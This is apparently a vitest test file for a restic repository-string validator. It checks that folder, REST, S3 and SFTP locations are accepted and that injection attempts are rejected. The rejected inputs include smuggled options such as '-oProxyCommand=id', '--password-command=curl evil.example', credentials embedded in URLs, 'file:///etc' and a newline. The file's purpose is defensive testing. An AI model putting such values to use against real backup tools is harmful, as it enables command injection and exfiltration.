import { expect, test } from 'vitest'
import { kindOfRepository } from './restic-place.ts'

test.each<[string, string]>([
  ['/mnt/backup/restic', 'folder'],
  ['/mnt/my backup/-x', 'folder'],
  ['rest:https://backup.example:8000/shop/', 'rest'],
  ['rest:http://127.0.0.1:8000', 'rest'],
  ['rest:http://[::1]:8000/', 'rest'],
  ['s3:https://s3.eu-central-1.amazonaws.com/bucket/restic', 's3'],
  ['s3:s3.amazonaws.com/bucket', 's3'],
  ['sftp:keeper@backup.example:/srv/restic', 'sftp'],
  ['sftp://keeper@backup.example:2222//srv/restic', 'sftp'],
])('%s is a %s', (repository, kind) => expect(kindOfRepository(repository)).toBe(kind))

test.each([
  '',
  'restic',
  '--password-command=curl evil.example',
  '-o sftp.command=id',
  '-r/mnt/x',
  'sftp:-oProxyCommand=id:/srv',
  'sftp://-oProxyCommand=id/srv',
  'sftp://%2doProxyCommand=id/srv',
  'sftp:-l@host:/srv',
  'sftp:keeper@-oProxyCommand=id:/srv',
  'rest:https://user:secret@backup.example/',
  'rest:https://-x/',
  'rest:file:///etc',
  's3:https://key:secret@s3.amazonaws.com/bucket',
  's3:-x/bucket',
  'rclone:remote:bucket',
  'b2:bucket',
  'local:/mnt/x',
  '/mnt/two\nlines',
])('`%s` is no repository that restic is led to', (repository) =>
  expect(kindOfRepository(repository)).toBeNull(),
)
